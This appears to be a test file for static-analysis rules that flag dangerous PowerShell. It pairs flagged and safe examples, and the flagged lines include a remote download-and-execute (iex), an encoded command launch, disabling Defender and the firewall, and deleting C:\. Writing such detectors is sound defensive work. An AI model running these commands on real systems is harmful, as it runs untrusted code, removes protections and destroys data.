# ruleid: powershell-remote-script-run
iex ((New-Object System.Net.WebClient).DownloadString('https://get.example.com/install.ps1'))
# ruleid: powershell-remote-script-run
irm https://get.example.com/install.ps1 | iex
# ok: powershell-remote-script-run
Invoke-WebRequest https://get.example.com/install.ps1 -OutFile install.ps1

# ruleid: powershell-encoded-command
powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
# ok: powershell-encoded-command
powershell.exe -NoProfile -File build.ps1

# ruleid: powershell-security-switched-off
Set-MpPreference -DisableRealtimeMonitoring $true
# ruleid: powershell-security-switched-off
netsh advfirewall set allprofiles state off
# ok: powershell-security-switched-off
Get-MpPreference

# ruleid: powershell-destroys-system
Remove-Item -Recurse -Force C:\
# ok: powershell-destroys-system
Remove-Item -Recurse -Force .\build
